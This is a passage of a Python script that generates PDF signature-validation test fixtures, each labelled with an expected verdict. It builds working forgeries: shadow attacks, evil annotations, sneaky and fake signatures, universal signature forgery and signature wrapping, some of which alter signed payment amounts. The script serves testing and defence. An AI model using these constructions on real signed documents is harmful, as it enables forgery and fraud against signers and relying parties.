                                  b"/BaseEncoding /WinAnsiEncoding /Differences [57 /one 49 /nine] >> >>"}),
        "Shadow attack (replace): the font used by the page is replaced so that glyphs 1 and 9 swap on screen",
        "pdf/shadow-replace")

    # ---- shadow hide-and-replace: /Root re-pointed to a catalog hidden in the signed revision ----
    hidden = {
        60: b"<< /Type /Catalog /Pages 61 0 R /AcroForm 10 0 R >>",
        61: b"<< /Type /Pages /Kids [62 0 R] /Count 1 >>",
        62: b"<< /Type /Page /Parent 61 0 R /MediaBox [0 0 595 842] /Contents 63 0 R /Resources << /Font << /F1 5 0 R >> >> >>",
        63: stream(b"", b"BT /F1 16 Tf 72 760 Td (Van ban khac hoan toan) Tj ET"),
    }
    hs = sign(base_pdf(extra=hidden), "Signature1")
    add("shadow-hide-and-replace-root.pdf", "flag-shadow-attack", append_update(hs, {}, root=b"60 0 R"),
        "Shadow attack (hide-and-replace): the signed revision carries an unreferenced catalog and page tree; "
        "the update only re-points the trailer /Root to it", "pdf/shadow-hide-and-replace")

    # ---- shadow hide-and-replace via xref re-pointing to a shadow definition in the signed bytes ----
    shadow4 = b"4 0 obj\n" + stream(b"", b"BT /F1 16 Tf 72 760 Td (Noi dung bi thay the) Tj ET") + b"\nendobj"
    base_sh = base_pdf(shadow_defs=[shadow4])
    off = base_sh.index(shadow4)
    ss = sign(base_sh, "Signature1")
    add("shadow-hide-and-replace-xref.pdf", "flag-shadow-attack", append_update(ss, {}, xref_override={4: off}),
        "Shadow attack (hide-and-replace): a second definition of the content stream sits unreferenced in the "
        "signed bytes; the update's xref re-points object 4 to it without writing any new object",
        "pdf/shadow-hide-and-replace")

    # ---- evil annotation (approval) ----
    annot = (b"<< /Type /Annot /Subtype /FreeText /Rect [70 690 370 720] /P 3 0 R /F 4 /DA (/F1 12 Tf 0 g) "
             b"/Contents (So tien: 5.000.000 dong) /AP << /N 71 0 R >> >>")
    annot_ap = stream(b"/Type /XObject /Subtype /Form /BBox [0 0 300 30] /Resources << /Font << /F1 5 0 R >> >>",
                      b"1 g 0 0 300 30 re f 0 g BT /F1 12 Tf 2 10 Td (So tien: 5.000.000 dong) Tj ET")
    page_with = (b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
                 b"/Resources << /Font << /F1 5 0 R >> /XObject << /Fm1 6 0 R >> >> /StructParents 0 /Tabs /S "
                 b"/Annots [11 0 R 12 0 R %d 0 R 70 0 R] >>")
    add("evil-annotation-approval.pdf", "flag-modified-after-signing",
        append_update(signed, {3: page_with % w_num, 70: annot, 71: annot_ap}),
        "Evil annotation: an opaque FreeText annotation over the amount is added after an approval signature")

    # ---- comments after approval-only signatures: accepted with a warning ----
    note = (b"<< /Type /Annot /Subtype /Text /Rect [520 780 540 800] /P 3 0 R /F 4 /Name /Comment "
            b"/Contents (Kiem tra lai so tien) /T (Nguoi doc) /C [1 1 0] /AP << /N 73 0 R >> >>")
    note_ap = stream(b"/Type /XObject /Subtype /Form /BBox [0 0 20 20]", b"1 1 0 rg 0 0 20 20 re f")
    highlight = (b"<< /Type /Annot /Subtype /Highlight /Rect [70 755 300 780] /P 3 0 R /F 4 /C [1 1 0] "
                 b"/QuadPoints [72 778 298 778 72 757 298 757] /CA 0.4 /Contents (Xem lai) >>")
    cat_names = obj_body(signed, 1).replace(b"/Type /Catalog", b"/Type /Catalog /Names << /AP 74 0 R >>", 1)
    add("comments-after-approval.pdf", "valid-with-permitted-updates",
        append_update(signed, {3: (page_with % w_num).replace(b"70 0 R]", b"70 0 R 72 0 R]"), 70: note,
                               72: highlight, 73: note_ap, 1: cat_names,
                               74: b"<< /Names [(KysoNote) 73 0 R] >>"}),
        "After an approval signature (no DocMDP), a sticky note and a translucent highlight are added on the page, "
        "with the note's icon in the /Names /AP tree: accepted with a warning naming them (as EU DSS and Acrobat)")

    p3 = sign(base_pdf(), "Cert1", certify=True, perm=MDPPerm.ANNOTATE)
    w3, _ = sig_object_num(p3, "Cert1")
    add("evil-annotation-p3.pdf", "flag-modified-after-signing",
        append_update(p3, {3: page_with % w3, 70: annot, 71: annot_ap}),
        "Evil annotation attack (EAA): DocMDP P=3 permits annotations, but this one is opaque and covers signed "
        "page text: permitted by the letter of P=3, flagged", "pdf/certification DocMDP P=3 + annotation")

    # ---- sneaky signature: a new signature field whose widget covers text, with no signature ----
    p2 = sign(base_pdf(), "Cert1", certify=True, perm=MDPPerm.FILL_FORMS)
    w2, _ = sig_object_num(p2, "Cert1")
    acro = obj_body(p2, 10)
    acro2 = acro.replace(b"/Fields [", b"/Fields [80 0 R ").replace(b"/Fields[", b"/Fields[80 0 R ")
    sneaky = (b"<< /Type /Annot /Subtype /Widget /FT /Sig /T (ChuKy2) /F 4 /Rect [70 690 370 720] /P 3 0 R "
              b"/AP << /N 81 0 R >> >>")
    page_sneaky = (b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
                   b"/Resources << /Font << /F1 5 0 R >> /XObject << /Fm1 6 0 R >> >> /StructParents 0 /Tabs /S "
                   b"/Annots [11 0 R 12 0 R %d 0 R 80 0 R] >>") % w2
    add("sneaky-signature-widget.pdf", "flag-signature-spoofing",
        append_update(p2, {10: acro2, 3: page_sneaky, 80: sneaky, 81: annot_ap}),
        "Sneaky signature attack: after a certification P=2, an unsigned signature field is added whose "
        "appearance paints over the signed amount", "pdf/certification DocMDP P=2 + sneaky widget")

    # ---- universal signature forgery: signature dictionary present, values null/zero ----
    usf_sig = b"<< /Type /Sig /Filter /Adobe.PPKLite /SubFilter /adbe.pkcs7.detached /ByteRange [0 0 0 0] /Contents <%s> /Name (Nguyen Van A) >>" % (b"00" * 64)
    usf_field = (b"<< /Type /Annot /Subtype /Widget /FT /Sig /T (Signature1) /F 4 /Rect [330 40 560 110] /P 3 0 R "
                 b"/V 91 0 R >>")
    base = base_pdf()
    add("usf-zero-byterange.pdf", "invalid-structure",
        append_update(base, {10: b"<< /Fields [11 0 R 12 0 R 90 0 R] /SigFlags 3 >>", 90: usf_field, 91: usf_sig}),
        "Universal signature forgery: a signature dictionary with /ByteRange [0 0 0 0] and zeroed /Contents",
        "pdf/usf")
    usf_null = b"<< /Type /Sig /Filter /Adobe.PPKLite /SubFilter /adbe.pkcs7.detached /ByteRange null /Contents null >>"
    add("usf-null-values.pdf", "invalid-structure",
        append_update(base, {10: b"<< /Fields [11 0 R 12 0 R 90 0 R] /SigFlags 3 >>", 90: usf_field, 91: usf_null}),
        "Universal signature forgery: /ByteRange and /Contents are null", "pdf/usf")

    # ---- signature wrapping: the signature dictionary is redefined in an uncovered gap ----
    _, sig_num = sig_object_num(signed, "Signature1")
    m = re.search(rb"/ByteRange\s*\[\s*(\d+)\s+(\d+)\s+(\d+)\s+(\d+)\s*\]", signed)
    a, b, c, dlen = (int(x) for x in m.groups())
    contents = signed[b:c]  # the original /Contents token
    # New layout: part1 | malicious objects + new sig dict + contents | part2 (original tail, moved).
    # The new dictionary is copied from the signed one with a ByteRange that wraps the inserted bytes.
    sig_body_start = signed.rfind(b"%d 0 obj" % sig_num, 0, b)
    sig_dict_src = signed[sig_body_start:signed.index(b"endobj", c) + 6]
    malicious = b"\n50 0 obj\n" + page_content_new + b"\nendobj\n"
    # Placeholders of fixed width so offsets are known before writing.
    gap_start = b
    new_dict_tpl = lambda c2, d2: sig_dict_src[: b - sig_body_start].replace(
        m.group(0), b"/ByteRange [0 %d %d %d]" % (b, c2, d2)) + contents + sig_dict_src[c - sig_body_start:]
    # The gap = malicious + redefined signature object (its /Contents inside); part2 = the original tail.
    probe = new_dict_tpl(10**9, 10**9)
    c2 = gap_start + len(malicious) + len(probe) + 1
    gap = malicious + new_dict_tpl(c2, dlen) + b"\n"
    gap = gap[: c2 - gap_start].ljust(c2 - gap_start, b" ")
    wrapped = signed[:b] + gap + signed[c:]
    # The new xref re-points the signature object and object 4 to the wrapped copies in the gap.
    new_sig_off = b + len(malicious)
    wrapped = append_update(wrapped, {4: page_content_new}, xref_override={sig_num: new_sig_off},
                            shift_from=signed, shift=len(gap) - (c - b))
    add("signature-wrapping.pdf", "invalid-structure", wrapped,
        "Signature wrapping (SWA): the uncovered gap of the ByteRange is widened to hold attacker objects beside "
        "/Contents, then an update re-uses them", "pdf/siwa")

    # ---- incremental update with a broken xref (startxref points nowhere) ----
    broken = bytearray(signed)
    broken += b"4 0 obj\n" + page_content_new + b"\nendobj\nstartxref\n999999\n%%EOF\n"
    add("update-broken-xref.pdf", "invalid-structure", bytes(broken),
        "An update after signing whose startxref points nowhere (missing xref): not a proper revision, must not "
        "be repaired into acceptance (the parser refuses the file)")

    # ---- the signed revision hidden: an update whose /Prev skips it (issue 9) ----
    add("signed-revision-unreachable.pdf", "indeterminate",
        append_update(signed, {4: page_content_new}, prev=first_startxref(signed)),
        "An update after signing replaces the page content and its trailer /Prev names the original revision's "
        "xref section, skipping the signed revision: a reader following the chain sees the changed page and no "
        "signature, yet the signature and the version it signed are still in the file. Never 'no signature': "
        "indeterminate, the signed revision is unreachable", "pdf/hidden-signed-revision")

    # ---- a /Prev loop after signing (issue 9) ----
    add("xref-prev-loop.pdf", "invalid-structure", looping_updates(signed, {4: page_content_new}),
        "Two updates after signing whose trailers' /Prev name each other: the xref chain loops and never reaches "
        "the signed revision; the revisions of the document are undefined (the parser refuses the file)",
        "pdf/xref-prev-loop")

    # ---- dangling reference filled after signing ----
    dang = sign(base_pdf(contents=b"[4 0 R 99 0 R]"), "Signature1")
    add("dangling-reference-filled.pdf", "flag-shadow-attack",
        append_update(dang, {99: stream(b"", b"1 g 70 690 300 30 re f 0 g BT /F1 12 Tf 72 700 Td (So tien: 7.000.000 dong) Tj ET")}),
        "Shadow attack (hide-and-replace variant): the signed page lists a content stream 99 0 R that does not "
        "exist (drawn as nothing); the update only adds object 99, no signed object changes",
        "pdf/shadow-hide-and-replace")

    # ---- NeedAppearances switched on after signing ----
    acro = obj_body(signed, 10)
    add("need-appearances-after-signing.pdf", "flag-shadow-attack",
        append_update(signed, {10: acro.replace(b"/Fields", b"/NeedAppearances true /Fields", 1)}),
        "/NeedAppearances true set after signing: viewers redraw every field from its value, which can differ "
        "from the appearance that was signed", "pdf/shadow-replace")

    # ---- only the displayed title changed (permitted, but said) ----
    add("info-title-changed.pdf", "valid-with-permitted-updates",
        append_update(signed, {40: b"<< /Title (Quyet dinh so 99/QD-KYSO) /Producer (kyso gen-attack-fixtures) "
                                   b"/CreationDate (D:20260102080000+07'00') >>"}),
        "Only the Info /Title changes after signing: metadata updates are permitted, but the new title shown by "
        "viewers is reported")

    d = base_pdf()
    d = sign(d, "ChuKyLanhDao", SIGNER_A, box=(330, 120, 560, 190), certify=True, perm=MDPPerm.FILL_FORMS,
             prepare=tag_new_widget("ChuKyLanhDao", "VGCASignService"))
    d = sign(d, "ChuKyCoQuan", SIGNER_B, box=(330, 40, 560, 110), prepare=copying_writer("ChuKyCoQuan"))
    add("legit-decree-copying-writer.pdf", "valid-with-permitted-updates", d,
        "Tagged decree, certification P=2 then an approval signature whose writer moves the ParentTree, the "
        "AcroForm and the page's /Annots into new objects (copies plus the new widget): permitted",
        "pdf/certification DocMDP P=2 + approval")

    # ---- Info re-saved: the same text in another encoding is not a change ----
    info_utf16 = (b"<< /Title (Quyet dinh so 01/QD-KYSO) /Author <FEFF00500043> /Producer (kyso gen-attack-fixtures) "
                  b"/CreationDate (D:20260102080000+07'00') >>")
    signed_u16 = sign(base_pdf(extra={40: info_utf16}), "Signature1")
    add("info-author-reencoded.pdf", "valid-with-permitted-updates",
        append_update(signed_u16, {40: info_utf16.replace(b"<FEFF00500043>", b"(PC)")}),
        "After signing, Info is re-saved with /Author changed only from UTF-16BE 'PC' to PDFDocEncoding 'PC': "
        "a metadata update that displays the same text, not reported as a changed author")

    # ---- the government signing software's way: ParentTree written anew in every revision ----
    boxes = [(330, 120, 560, 190), (330, 40, 560, 110), (40, 40, 270, 110), (40, 120, 270, 190),
             (40, 200, 270, 270)]
    names = ["ChuKyLanhDao", "ChuKyCoQuan", "SoVanBan", "NgayBanHanh", "DauCoQuan"]

    def decree_rewritten(alter_last: bool) -> bytes:
        d = base_pdf()
        for i, (name, box) in enumerate(zip(names, boxes)):
            last = i == len(names) - 1
            d = sign(d, name, SIGNER_A if i == 0 else SIGNER_B, box=box, certify=(i == 0),
                     perm=MDPPerm.FILL_FORMS,
                     prepare=tag_new_widget(name, "VGCASignService", rewrite_tree=True,
                                            alter_key=1 if (alter_last and last) else None))
        return d

    add("legit-decree-five-signatures-parenttree-rewritten.pdf", "valid-with-permitted-updates",
        decree_rewritten(False),
        "Tagged decree signed five times (certification P=2, then four approvals with visible widgets); every "
        "revision writes the ParentTree anew (new object numbers, /Kids leaves, page entries copied into new "
        "indirect arrays) with every earlier entry kept and one /OBJR entry for the new widget: permitted",
        "pdf/certification DocMDP P=2 + 4 approvals")
    add("struct-parenttree-entry-altered.pdf", "flag-modified-after-signing", decree_rewritten(True),
        "As the five-signature decree, but the last revision's rewritten ParentTree also points the earlier "
        "entry 1 (the HoTen field's element) at the new element: an earlier entry changed, not permitted",
        "pdf/certification DocMDP P=2 + 4 approvals")

    # ---- "a later change covers signed content": the page decides (issue 9) ----
    # (1) A real later signature whose opaque widget sits over the signed title line vs. on blank paper.
    cert = sign(base_pdf(), "ChuKyLanhDao", SIGNER_A, box=(330, 120, 560, 190), certify=True,
                perm=MDPPerm.FILL_FORMS)
    add("sneaky-signature-real-over-text.pdf", "flag-signature-spoofing",
        sign(cert, "ChuKyCoQuan", SIGNER_B, box=(66, 750, 400, 785), stamp_style=opaque_stamp("So 99/QD-KYSO")),
        "Certification P=2, then a genuine second signature whose visible widget is an opaque box over the "
        "signed title line showing another number: permitted by DocMDP, but it hides signed text",
        "pdf/certification DocMDP P=2 + approval")
    add("legit-signature-stamp-on-blank-space.pdf", "valid-with-permitted-updates",
        sign(cert, "ChuKyCoQuan", SIGNER_B, box=(330, 40, 560, 110), stamp_style=opaque_stamp("So 01/QD-KYSO")),
        "Certification P=2, then a second signature with the same opaque stamp on blank space at the foot of "
        "the page (the number/seal stamps of the Vietnamese workflow): permitted",
        "pdf/certification DocMDP P=2 + approval")

    # (2) An opaque annotation hidden (/F 2) when signed under P=3, revealed afterwards.
    hidden_sq = (b"<< /Type /Annot /Subtype /Square /Rect [70 690 370 720] /P 3 0 R /F 2 /C [1 1 1] /IC [1 1 1] "
                 b"/AP << /N 76 0 R >> >>")
    sq_ap = stream(b"/Type /XObject /Subtype /Form /BBox [0 0 300 30] /Resources << /Font << /F1 5 0 R >> >>",
                   b"1 g 0 0 300 30 re f 0 g BT /F1 12 Tf 2 10 Td (So tien: 90.000.000 dong) Tj ET")
    page_sq = (b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
               b"/Resources << /Font << /F1 5 0 R >> /XObject << /Fm1 6 0 R >> >> /StructParents 0 /Tabs /S "
               b"/Annots [11 0 R 12 0 R 75 0 R] >>")
    p3h = sign(base_pdf(extra={3: page_sq, 75: hidden_sq, 76: sq_ap}), "Cert1", certify=True,
               perm=MDPPerm.ANNOTATE)
    add("hidden-annotation-revealed-p3.pdf", "flag-modified-after-signing",
        append_update(p3h, {75: hidden_sq.replace(b"/F 2", b"/F 4")}),
        "Certification P=3; an opaque Square annotation over the amount was in the signed revision but hidden "
        "(/F 2); an update makes it visible (/F 4): the letter of P=3 allows changing annotations, but it now "
        "hides signed text", "pdf/certification DocMDP P=3 + annotation")
    n3 = trailer_info(p3h)[0]  # first free object number after the signed revision
    note3 = (b"<< /Type /Annot /Subtype /Text /Rect [520 780 540 800] /P 3 0 R /F 4 /Name /Comment "
             b"/Contents (Da doc) /AP << /N %d 0 R >> >>" % (n3 + 1))
    note3_ap = stream(b"/Type /XObject /Subtype /Form /BBox [0 0 20 20]", b"1 1 0 rg 0 0 20 20 re f")
    add("hidden-annotation-left-alone-p3.pdf", "valid-with-permitted-updates",
        append_update(p3h, {3: re.sub(rb"(/Annots\s*\[[^\]]*)\]", rb"\1 %d 0 R]" % n3, obj_body(p3h, 3), count=1),
                            n3: note3, n3 + 1: note3_ap}),
        "Certification P=3 with the same hidden annotation left hidden; an update adds a sticky note in the "
        "margin: permitted (P=3), nothing signed is covered", "pdf/certification DocMDP P=3 + annotation")

    # (3) An empty, invisible text field pre-positioned over signed text, "filled" after signing (P=2).
    over_field = (b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (SoVanBan) /F 4 /Rect [70 755 400 780] /P 3 0 R "
                  b"/DA (/F1 16 Tf 0 g) /AP << /N 81 0 R >> >>")
    empty_ap = stream(b"/Type /XObject /Subtype /Form /BBox [0 0 330 25]", b"/Tx BMC EMC")
    filled_ap = stream(b"/Type /XObject /Subtype /Form /BBox [0 0 330 25] /Resources << /Font << /F1 5 0 R >> >>",
                       b"/Tx BMC 1 g 0 0 330 25 re f 0 g BT /F1 16 Tf 2 6 Td (QUYET DINH so 99/QD-KYSO) Tj ET EMC")
    page_f = (b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
              b"/Resources << /Font << /F1 5 0 R >> /XObject << /Fm1 6 0 R >> >> /StructParents 0 /Tabs /S "
              b"/Annots [11 0 R 12 0 R 80 0 R] >>")
    acro_f = b"<< /Fields [11 0 R 12 0 R 80 0 R] /DA (/F1 0 Tf 0 g) /DR << /Font << /F1 5 0 R >> >> >>"
    p2f = sign(base_pdf(extra={3: page_f, 10: acro_f, 80: over_field, 81: empty_ap}), "Cert1", certify=True,
               perm=MDPPerm.FILL_FORMS)
    size_f = trailer_info(p2f)[0]
    add("prepositioned-field-filled-over-text.pdf", "flag-modified-after-signing",
        append_update(p2f, {80: over_field.replace(b"/AP << /N 81 0 R >>", b"/V (99) /AP << /N %d 0 R >>" % size_f),
                            size_f: filled_ap}),
        "Certification P=2; an empty text field sat invisibly over the signed title when signed; after signing it "
        "is 'filled' and its opaque appearance shows another number over the signed one: form filling is "
        "permitted by P=2, hiding signed text is not", "pdf/certification DocMDP P=2 + form filling")
    p2g = sign(base_pdf(), "Cert1", certify=True, perm=MDPPerm.FILL_FORMS)
    size_g = trailer_info(p2g)[0]
    gh = obj_body(p2g, 12)
    gh_filled = re.sub(rb"/AP\s*<<\s*/N\s+14 0 R\s*>>", b"/V (Da xem) /AP << /N %d 0 R >>" % size_g, gh)
    add("field-filled-on-empty-line.pdf", "valid-with-permitted-updates",
        append_update(p2g, {12: gh_filled, size_g: stream(
            b"/Type /XObject /Subtype /Form /BBox [0 0 228 20] /Resources << /Font << /F1 5 0 R >> >>",
            b"/Tx BMC 1 g 0 0 228 20 re f 0 g BT /F1 11 Tf 2 6 Td (Da xem) Tj ET EMC")}),
        "Certification P=2; the empty note field on its own blank line is filled after signing with an opaque "
        "appearance: form filling on blank space, permitted", "pdf/certification DocMDP P=2 + form filling")

    # (4) A scanned page (one page-sized JPEG); a later signature stamp on the blank margin vs. over the text.
    scan = scanned_pdf()
    scan_signed = sign(scan, "Signature1", SIGNER_A, box=(330, 40, 560, 110))
    add("scan-stamp-on-blank-margin.pdf", "valid-with-permitted-updates",
        sign(scan_signed, "DauCoQuan", SIGNER_B, box=(330, 130, 560, 200), stamp_style=opaque_stamp("DA DONG DAU")),
        "A scanned page (page-sized JPEG) signed, then a second signature whose opaque stamp sits on blank paper "
        "of the scan: the pixels under it are white, permitted", "pdf/adbe.pkcs7.detached x2, scanned page")
    add("scan-stamp-over-text.pdf", "flag-signature-spoofing",
        sign(scan_signed, "DauCoQuan", SIGNER_B, box=(60, 640, 400, 700), stamp_style=opaque_stamp("SO 99")),
        "The same scanned page, but the second signature's opaque stamp covers scanned text lines: the pixels "
        "under it are ink, flagged", "pdf/adbe.pkcs7.detached x2, scanned page")

    # ---- a picture of a signature, no signature at all ----
    seal = stream(b"/Type /XObject /Subtype /Form /BBox [0 0 230 70] /Resources << /Font << /F1 5 0 R >> >>",
                  b"1 0 0 RG 4 w 115 35 30 0 360 re S BT /F1 10 Tf 20 30 Td (Da ky: Nguyen Van A) Tj ET")
    fake = base_pdf(extra={
        10: b"<< /Fields [11 0 R 12 0 R 90 0 R] /DA (/F1 0 Tf 0 g) /DR << /Font << /F1 5 0 R >> >> >>",
        90: b"<< /Type /Annot /Subtype /Widget /FT /Sig /T (ChuKy) /F 4 /Rect [330 40 560 110] /P 3 0 R "
            b"/AP << /N 91 0 R >> >>",
        91: seal,
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
           b"/Resources << /Font << /F1 5 0 R >> /XObject << /Fm1 6 0 R >> >> /StructParents 0 /Tabs /S "
           b"/Annots [11 0 R 12 0 R 90 0 R] >>",
    })
    add("fake-visible-signature-unsigned.pdf", "no-signature", fake,
        "A signature field whose appearance draws a seal and 'signed by' text, with no signature value: "
        "must be reported as a picture that proves nothing", "pdf/unsigned signature field")

    # ---- a document timestamp (PAdES-LTA) after a certification with P=1 ----
    w = IncrementalPdfFileWriter(io.BytesIO(p1))
    out = io.BytesIO()
    signers.PdfTimeStamper(make_tsa()).timestamp_pdf(w, md_algorithm="sha256", output=out)
    add("docmdp-p1-then-doc-timestamp.pdf", "valid-with-permitted-updates", out.getvalue(),
        "Certification with DocMDP P=1, then a document timestamp: PAdES (ETSI EN 319 142-1 §5.4) permits "
        "document timestamps and DSS after any DocMDP level", "pdf/certification DocMDP P=1 + ETSI.RFC3161")

    # ---- write ----
    rows = ["file\tsource_repo\tpath_in_repo\tcommit\tlicence\tformat\texpected_verdict\twhy\tpyhanko_verdict\t"
            "pdfsig_verdict\tother_peer_verdict\tsha256\tsize"]
    for name, verdict, data, why, fmt in FIXTURES:
        with open(os.path.join(OUT, name), "wb") as f:
            f.write(data)
        rows.append("\t".join([name, "kyso", "scripts/gen-attack-fixtures.py", "", "Apache-2.0 OR MIT", fmt, verdict,
                               why, pyhanko_verdict(data), "", "", hashlib.sha256(data).hexdigest(), str(len(data))]))
    with open(os.path.join(OUT, "MANIFEST.tsv"), "w", encoding="utf-8") as f:
        f.write("\n".join(rows) + "\n")
    print(f"wrote {len(FIXTURES)} fixtures to {OUT}")


def pyhanko_verdict(data: bytes) -> str:
    """pyHanko's own difference analysis per signature (trust not checked), for the peer column."""
    from pyhanko.sign.validation import validate_pdf_signature
    from pyhanko_certvalidator import ValidationContext

    try:
        r = PdfFileReader(io.BytesIO(data), strict=False)
        out = []
        for s in r.embedded_regular_signatures:
            try:
                st = validate_pdf_signature(s, ValidationContext(allow_fetching=False))
                mods = st.modification_level.name if st.modification_level is not None else "?"
                ok = "docmdp-ok" if st.docmdp_ok else "docmdp-BAD"
                out.append(f"{s.field_name}: intact={st.intact} {ok} mods={mods} coverage={st.coverage.name}")
            except Exception as e:  # noqa: BLE001 - record what pyHanko says
                out.append(f"{s.field_name}: ERROR {type(e).__name__}: {str(e)[:80]}")
        return " | ".join(out) or "no signatures"
    except Exception as e:  # noqa: BLE001
        return f"ERROR {type(e).__name__}: {str(e)[:80]}"


if __name__ == "__main__":
    sys.exit(main())
